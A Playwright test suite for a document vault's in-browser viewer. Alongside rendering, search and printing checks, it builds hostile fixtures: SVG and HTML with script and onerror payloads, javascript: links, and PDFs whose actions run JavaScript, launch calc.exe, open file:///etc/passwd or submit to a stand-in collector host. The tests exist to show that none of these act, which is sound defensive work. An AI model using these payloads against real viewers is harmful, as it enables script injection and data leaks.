"""Documents read in the page by a real Chromium: what each kind can do, and that nothing in a file acts (A08, A09)."""

import io
import json
import random
import re
import secrets
import zlib
from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, expect

from documents.management.papers import mail, pdf, pdf_file, png
from documents.tests.papers import NAME, field, form
from documents.tests.papers import pdf as lines_of
from tests.browser.conftest import Site, Visitor, Watch, make_person

pytestmark = [pytest.mark.xdist_group("browser"), pytest.mark.timeout(300)]
CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus"
DESKTOP = {
    "viewport": {"width": 1280, "height": 900},
    "reduced_motion": "no-preference",
}  # pages slide, as people see them
PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True, "device_scale_factor": 2}
PRINTED = "() => { window.print = () => { window.papers = document.querySelectorAll('.paper canvas').length } }"
MARK = "document.title='DOCVAULT-XSS'"


def acting(action: bytes) -> bytes:
    """A PDF that does something when it is opened, and when its only page is clicked on."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A %s >>" % action
    note = b"<< /Type /Annot /Subtype /Text /Rect [10 10 40 40] /Name /..#2f..#2faccount#2flogout#2f /Contents (x) >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [%s %s] /AA << /O %s >> >>" % (
        link,
        note,
        action,
    )
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action
    return pdf_file([catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])


def heavy(pages: int, page_bytes: int) -> bytes:
    """A PDF whose pages each bring a picture that does not compress; a word on each, an outline, a tree by tens."""
    noise = random.Random(7)
    side = int(page_bytes**0.5)
    groups = -(-pages // 10)
    first = 6 + groups  # the number of the first page's object; each page has three
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % (6 + n) for n in range(groups)), pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (The last page) /Parent 4 0 R /Dest [%d 0 R /XYZ 0 700 0] >>" % (first + 3 * (pages - 1)),
    ]
    for group in range(groups):
        own = range(10 * group, min(pages, 10 * group + 10))
        kids = b" ".join(b"%d 0 R" % (first + 3 * n) for n in own)
        bodies.append(b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (kids, len(own)))
    for n in range(pages):
        word = b"needle" if n in {40, 90} else b"hay"
        text = b"q 300 0 0 300 100 100 cm /I Do Q BT /F 24 Tf 72 700 Td (Page %d has %s) Tj ET" % (n + 1, word)
        pixels = zlib.compress(noise.randbytes(side * side))
        at = first + 3 * n
        bodies.append(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R"
            b" /Resources << /Font << /F 3 0 R >> /XObject << /I %d 0 R >> >> >>" % (6 + n // 10, at + 1, at + 2)
        )
        bodies.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text))
        bodies.append(
            b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8"
            b" /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (side, side, len(pixels), pixels)
        )
    return pdf_file(bodies)


KINDS = {
    "letter.eml": mail("Ann <a@b.example>", "c@d.example", "Hello", "Dear all\n\nhttps://fine.example"),
    "table.csv": b"Name;Sum\n" + b"Ann;=1+1\n" * 300,
    "notes.md": b"# Notes\n\n[fine](https://fine.example) ![x](https://collector.invalid/x.png)\n\n- a\n- b\n",
    "code.py": b"def f():\n    return '<b>'\n" * 40,
    "photo.png": png(600, 400, 3),
    "odd.bin": bytes(range(256)) * 4,
    "broken.pdf": b"%PDF-1.7\nnothing of the kind",
    "short.pdf": pdf("Short", ["Dear reader"]),
}
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{MARK}\"><script>{MARK}</script></svg>".encode()
HTML = f'<!doctype html><script>{MARK}</script><img src=https://collector.invalid/x onerror="{MARK}">'.encode()
ACTIVE = {
    "drawing.svg": SVG,
    "page.html": HTML,
    "page.png": HTML,
    "drawing.png": SVG,
    "refresh.html": b"<meta http-equiv=refresh content='0;url=https://collector.invalid/'>",
    "active.md": b"<img src=https://collector.invalid/x> ![x](https://collector.invalid/y) [z](javascript:alert(1))",
    "mail.eml": b"Subject: x\nContent-Type: text/html\n\n" + HTML,
}
ACTING = {
    "open-js.pdf": acting(b"<< /S /JavaScript /JS (app.alert\\(1\\); this.title='DOCVAULT-XSS') >>"),
    "uri-js.pdf": acting(b"<< /S /URI /URI (javascript:document.title='DOCVAULT-XSS') >>"),
    "uri-file.pdf": acting(b"<< /S /URI /URI (file:///etc/passwd) >>"),
    "launch.pdf": acting(b"<< /S /Launch /F (calc.exe) >>"),
    "launch-share.pdf": acting(b"<< /S /Launch /F << /Type /Filespec /F (\\\\\\\\collector.invalid\\\\x) >> >>"),
    "submit.pdf": acting(b"<< /S /SubmitForm /F << /FS /URL /F (https://collector.invalid/) >> >>"),
    "remote.pdf": acting(b"<< /S /GoToR /F (https://collector.invalid/x.pdf) /D [0 /Fit] >>"),
    "print.pdf": acting(b"<< /S /Named /N /Print >>"),
}
# These take a browser long, and are the business of those who read documents.
SLOW = {"bomb-giant.pdf", "hugemono-35000x35000.pdf", "enormous-page.pdf"}
Library = tuple[str, dict[str, str]]


def locked() -> bytes:
    """A PDF that asks for a password."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("Secret letter", ["Dear reader"]))) as file:
        file.save(made, encryption=pikepdf.Encryption(owner="owner-word", user="open-sesame"))
    return made.getvalue()


def files() -> dict[str, bytes]:
    """All that is read here, by name: hostile files of the corpus where it is there, small own ones always."""
    found = {**KINDS, **ACTIVE, **ACTING, "report.pdf": heavy(117, 60_000), "locked.pdf": locked()}
    found["link.pdf"] = acting(b"<< /S /URI /URI (https://fine.example/path) >>")
    found["filled.pdf"] = form(
        NAME,
        field("Tx", "20 190 300 210", "/T (secret) /Ff 8192 /V (hunter2)"),
        "/Subtype /Text /T (Gina) /Contents (Ask the notary <b>about</b> the seal) /Rect [350 250 370 270]",
    )
    found["parted.pdf"] = lines_of("Please make the repay-) Tj 0 -24 Td (ment by Friday, House 12-) Tj 0 -24 Td (13")
    found["long.txt"] = b"one\n" * 1500 + b"a N\xc3\xa9edle here\n" + b"two\n" * 9
    if CORPUS.is_dir():
        for folder in ("active", "lies", "pdf"):
            for path in sorted((CORPUS / "hostile" / folder).iterdir()):
                if path.stat().st_size and path.name not in SLOW:
                    found[f"{folder} {path.name}"] = path.read_bytes()
    return found


class Reader:
    """A visitor with documents of his own, watched for dialogs and for any request beyond the vault's pages."""

    def __init__(self, visitor: Visitor, ids: dict[str, str]) -> None:
        self.visitor, self.ids, self.page = visitor, ids, visitor.page
        self.dialogs: list[str] = []
        self.requests: list[Request] = []
        self.page.on("dialog", self.saw_dialog)
        self.page.on("request", lambda request: self.requests.append(request))
        self.visitor.context.on("page", lambda page: self.dialogs.append(f"a new page {page.url}"))

    def saw_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, name: str, query: str = "") -> Page:
        self.page.goto(f"/documents/{self.ids[name]}/{query}")
        return self.page

    def settled(self) -> str:
        """Wait until the PDF is shown or told of; answers the state."""
        viewer = self.page.locator("#viewer")
        if viewer.get_attribute("data-viewer") != "pdf":
            return "no PDF"
        expect(viewer).to_have_attribute("data-state", re.compile("ready|unreadable|password"), timeout=60_000)
        if (state := str(viewer.get_attribute("data-state"))) == "ready":
            expect(self.page.locator(".sheet:is(.is-drawn, .is-failed)").first).to_be_visible(timeout=60_000)
        return state

    def assert_nothing_acted(self, name: str) -> None:
        """No dialog, no other page, no mark in the title, and no request but for the vault's own pages and parts."""
        assert self.dialogs == [], name
        assert "DOCVAULT-XSS" not in self.page.title(), name
        assert "/documents/" in self.page.url, name
        for request in self.requests:
            assert OURS.match(request.url), (name, request.url)


OURS = re.compile(
    r"^(http://localhost:\d+/(static/|icons\.svg|[^/?]*jsi18n|space/bar/|documents/readings/|documents/[0-9a-f-]+/"
    r"((content|download|similar|reading|thumbnail|pages/\d+/(picture|words))/)?(\?.*)?$)|data:)"
)


@pytest.fixture(scope="module")
def library(site: Site, tmp_path_factory: pytest.TempPathFactory) -> Library:
    """Somebody, and what lies in his vault: the handle, and ids by name."""
    handle, folder = f"v{secrets.token_hex(4)}", tmp_path_factory.mktemp("library")
    make_person(site, handle, 10**9)
    for name, data in files().items():
        (folder / name).write_bytes(data)
    said = site.python(
        "import json\nfrom pathlib import Path\n"
        "from accounts.actors import Actor\nfrom accounts.models import User\n"
        "from documents.uploads import store_stream\n"
        f"by = Actor.for_user(User.objects.get(handle={handle!r}))\nmade = {{}}\n"
        f"for path in sorted(Path({str(folder)!r}).iterdir()):\n"
        "    data = path.read_bytes()\n"
        "    made[path.name] = str(store_stream(path.name, iter([data]), None, size_bound=len(data), by=by).pk)\n"
        "print(json.dumps(made))"
    )
    return handle, json.loads(said.strip().splitlines()[-1])


@pytest.fixture
def reader(browser: Browser, site: Site, watch: Watch, library: Library) -> Iterator[Reader]:
    handle, ids = library
    visitor = Visitor(browser, site, watch, **DESKTOP).sign_in(handle)
    yield Reader(visitor, ids)
    visitor.context.close()


def test_a_pdf_is_read_in_the_page_without_its_whole_file(reader: Reader) -> None:
    page = reader.open("report.pdf")
    assert reader.settled() == "ready"
    ranges = [r.headers.get("range", "") for r in reader.requests if r.url.endswith("/content/")]
    assert ranges
    assert all(ranges)
    read = sum(int(end) - int(start) + 1 for start, end in (one.removeprefix("bytes=").split("-") for one in ranges))
    whole = int(page.locator("#viewer").get_attribute("data-size") or 0)
    assert read < whole // 4, f"{read} of {whole} bytes for the first page"
    expect(page.locator("[data-page-count]")).to_have_text("117")
    reader.visitor.check_access()

    first = page.locator(".sheet[data-page='1']")
    assert "Page 1 has hay" in first.locator(".sheet-text").inner_text()
    page.evaluate("getSelection().selectAllChildren(document.querySelector('.sheet-text'))")
    assert page.evaluate("getSelection().toString()").strip() == "Page 1 has hay"

    # Find: marks, and the way from hit to hit over pages.
    page.keyboard.press("/")
    page.keyboard.type("needle")
    expect(page.locator("[data-find-told]")).to_have_text("1 of 2", timeout=90_000)
    expect(page.locator(".sheet[data-page='41'] .word-hit.is-current")).to_be_visible()
    page.keyboard.press("Enter")
    expect(page.locator(".sheet[data-page='91'] .word-hit.is-current")).to_be_visible()
    expect(page.locator("[data-find-told]")).to_have_text("2 of 2")
    page.keyboard.press("Escape")

    # Only what is near stays drawn.
    assert page.locator(".sheet canvas").count() <= 20

    # Zoom, turn, go to a page.
    before = page.locator(".sheet[data-page='91']").bounding_box()
    page.keyboard.press("+")
    expect(page.locator("[data-tool=zoom]")).to_have_value("now")
    after = page.locator(".sheet[data-page='91']").bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] > before["width"]
    page.keyboard.press("r")
    expect(page.locator(".sheet[data-page='91'] .sheet-text")).to_have_attribute("data-main-rotation", "90")
    turned = page.locator(".sheet[data-page='91']").bounding_box()
    assert turned is not None
    assert turned["width"] > turned["height"]
    expect(page.locator(".sheet[data-page='91'] .word-hit")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator(".word-hit")).to_have_count(0)
    expect(page.locator("[data-find-words]")).to_have_value("")
    page.fill("[data-tool=page]", "3")
    page.press("[data-tool=page]", "Enter")
    expect(page.locator(".sheet[data-page='3'].is-drawn")).to_be_visible()
    page.click("[data-tool=rotate]", click_count=3)
    page.keyboard.press("0")
    for key, number in (("ArrowRight", "4"), ("ArrowRight", "5"), ("ArrowLeft", "4")):
        page.locator("[data-stage]").press(key)
        expect(page.locator("[data-tool=page]")).to_have_value(number)

    # Small pictures of the pages, and the outline.
    page.click("[data-tool=side]")
    expect(page.locator("[data-thumbnails] [aria-current] canvas")).to_be_visible()
    reader.visitor.check_access()
    page.click("[data-side-tab=outline]")
    page.click("[data-outline] button")
    expect(page.locator("[data-tool=page]")).to_have_value("117")

    # Printing asks for a range where there are many pages, and draws those for paper.
    page.evaluate(PRINTED)
    page.click("[data-tool=print]")
    page.fill("[data-print-dialog] [name=from]", "5")
    page.fill("[data-print-dialog] [name=to]", "6")
    page.click("[data-print-dialog] .button-primary")
    page.locator(".paper").wait_for(state="detached")
    expect(page.locator("[data-tool=print]")).not_to_have_attribute("aria-busy", "true")
    assert page.evaluate("window.papers") == 2
    reader.assert_nothing_acted("report.pdf")


def test_a_hit_of_a_search_opens_at_its_page_with_the_words_marked(reader: Reader) -> None:
    page = reader.open("report.pdf", "?page=41&q=needle")
    expect(page.locator(".sheet[data-page='41'] .word-hit.is-current")).to_be_visible(timeout=60_000)
    expect(page.locator("[data-tool=page]")).to_have_value("41")
    page = reader.open("long.txt", "?q=needle")
    expect(page.locator("mark.is-current")).to_have_text("Néedle")
    expect(page.locator(".line", has=page.locator("mark"))).to_have_attribute("data-number", "1501")


def test_what_was_written_on_a_page_is_marked_and_comments_are_told(reader: Reader) -> None:
    page = reader.open("filled.pdf", "?page=1&q=oosterbeek")
    sheet = page.locator(".sheet[data-page='1']")
    expect(sheet.locator(".word-hit.is-current")).to_be_visible(timeout=60_000)
    field, drawn = sheet.locator(".word-hit").bounding_box(), sheet.bounding_box()
    assert field is not None
    assert drawn is not None
    assert abs((field["x"] - drawn["x"]) / drawn["width"] - 20 / 400) < 0.01
    assert abs((field["y"] - drawn["y"]) / drawn["height"] - 60 / 300) < 0.01
    comment = sheet.locator(".sheet-comment")
    expect(comment).to_have_count(1)
    expect(comment.get_by_text("Ask the notary")).to_be_hidden()
    sheet.get_by_label("Comment by Gina").click()
    expect(comment.get_by_text("Ask the notary <b>about</b> the seal")).to_be_visible()
    reader.visitor.look("viewer-comment", (1280, 390))
    page.fill("[data-find-words]", "notary")
    expect(page.locator("[data-find-told]")).to_have_text("1 of 1")
    page.fill("[data-find-words]", "hunter2")
    expect(page.locator("[data-find-told]")).to_have_text("Not found")
    reader.assert_nothing_acted("filled.pdf")

    page = reader.open("parted.pdf", "?q=repayment")
    expect(page.locator("[data-find-told]")).to_have_text("1 of 1", timeout=60_000)
    expect(page.locator(".word-hit.is-current")).to_have_count(2)
    page.fill("[data-find-words]", "12- 13")
    expect(page.locator("[data-find-told]")).to_have_text("1 of 1")


def test_a_password_is_asked_for_in_the_page_and_never_sent(reader: Reader) -> None:
    page = reader.open("locked.pdf")
    assert reader.settled() == "password"
    reader.visitor.check_access()
    page.fill("#pdf-password", "wrong")
    page.press("#pdf-password", "Enter")
    expect(page.locator("[data-wrong]")).to_be_visible()
    page.fill("#pdf-password", "open-sesame")
    page.press("#pdf-password", "Enter")
    assert reader.settled() == "ready"
    assert "Secret letter" in page.locator(".sheet-text").first.inner_text()
    assert not [r for r in reader.requests if r.method != "GET" or "sesame" in r.url or "sesame" in str(r.headers)]


def test_every_kind_can_be_read_by_everybody_on_a_desk_and_on_a_phone(
    reader: Reader, browser: Browser, site: Site, watch: Watch, library: Library
) -> None:
    handle, ids = library
    phone = Visitor(browser, site, watch, **PHONE).sign_in(handle)
    silent = browser.new_context(
        base_url=site.address, java_script_enabled=False, storage_state=phone.context.storage_state()
    ).new_page()
    try:
        for visitor in (reader.visitor, phone):
            for name in KINDS:
                visitor.page.goto(f"/documents/{ids[name]}/")
                viewer = visitor.page.locator("#viewer")
                if viewer.get_attribute("data-viewer") == "pdf":
                    expect(viewer).to_have_attribute("data-state", re.compile("ready|unreadable"), timeout=60_000)
                visitor.check_access()
                wide = visitor.page.evaluate(
                    "document.documentElement.scrollWidth - document.documentElement.clientWidth"
                )
                assert wide <= 0, f"{name} makes the page wider than the window"
        seen: dict[str, str | re.Pattern[str]] = {
            "letter.eml": "Dear all", "table.csv": "=1+1", "notes.md": "Notes", "code.py": "return '<b>'",
            "odd.bin": "has no way to show them", "short.pdf": re.compile("Without scripts|Dear reader"),
        }  # fmt: skip
        for name, words in seen.items():
            silent.goto(f"/documents/{ids[name]}/")
            expect(silent.locator("#viewer").get_by_text(words).first).to_be_visible()
        silent.goto(f"/documents/{ids['table.csv']}/")
        silent.get_by_role("link", name="Show more").click()
        expect(silent.locator("tbody th").first).to_have_text("202")
        silent.goto(f"/documents/{ids['broken.pdf']}/?in=folder")
        silent.get_by_role("link", name="Next: code.py").click()
        expect(silent.locator(".lines")).to_be_visible()
    finally:
        silent.context.close()
        phone.context.close()
    page = reader.open("broken.pdf", "?in=folder")
    for key, name in (("]", "code.py"), ("[", "broken.pdf"), ("n", "code.py"), ("p", "broken.pdf")):
        page.keyboard.press(key)
        expect(page.get_by_role("heading", level=1)).to_have_text(name)
    page = reader.open("photo.png")
    picture = page.locator(".sheet img")
    expect(picture).to_be_visible()
    assert picture.evaluate("one => one.naturalWidth") == 600
    before = page.locator(".sheet").bounding_box()
    page.keyboard.press("+")
    expect(page.locator("[data-tool=zoom]")).to_have_value("now")
    after = page.locator(".sheet").bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] > before["width"]


def test_a08_nothing_that_was_uploaded_runs_or_calls_out(reader: Reader) -> None:
    for name in [*ACTIVE, *(name for name in reader.ids if name.startswith(("active ", "lies ")))]:
        page = reader.open(name)
        reader.settled()
        for link in page.locator("#viewer .prose a[href]").all():
            assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
        reader.assert_nothing_acted(name)
    reader.requests.clear()
    reader.open("notes.md")
    for name in ACTIVE:
        for way in ("content", "download"):
            with reader.page.expect_download() as download:  # a visit to the bytes is a download, whatever they are
                reader.page.evaluate(f"location.assign('/documents/{reader.ids[name]}/{way}/')")
            assert download.value.suggested_filename == name
            reader.assert_nothing_acted(name)


def test_a10_no_address_of_a_viewer_brings_in_bytes_from_elsewhere(reader: Reader) -> None:
    evil = "https://collector.invalid/x.pdf"
    for said in (
        f"file={evil}",
        "file=//collector.invalid/x.pdf",
        "file=data:application/pdf,x",
        "file=blob:x",
        "content=",
    ):
        page = reader.open("short.pdf", f"?{said}&src={evil}&url={evil}#file={evil}")
        assert reader.settled() == "ready"
        assert "Dear reader" in page.locator(".sheet-text").first.inner_text()
        reader.assert_nothing_acted(said)


def test_a09_no_action_of_a_pdf_is_taken(reader: Reader) -> None:
    for name in [*ACTING, *(name for name in reader.ids if name.startswith("pdf "))]:
        page = reader.open(name)
        page.evaluate("() => { window.print = () => { document.title = 'DOCVAULT-XSS printed' } }")
        if reader.settled() == "ready":
            for link in page.locator(".sheet-links > *").all():
                if (href := link.get_attribute("href")) is None:
                    link.click()
                else:
                    assert href.startswith(("http://", "https://", "mailto:")), (name, href)
                    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
                    assert link.get_attribute("title") == href
            if not page.locator(".sheet-links a[href]").count():  # that one opens what it says, for whoever wants it
                page.locator(".sheet").first.click(position={"x": 30, "y": 60}, force=True)
        reader.assert_nothing_acted(name)


def test_a09_a_link_out_of_a_pdf_says_where_it_leads(reader: Reader) -> None:
    page = reader.open("link.pdf")
    assert reader.settled() == "ready"
    link = page.get_by_role("link", name="Link to https://fine.example/path")
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("data-leads-to") == "fine.example"
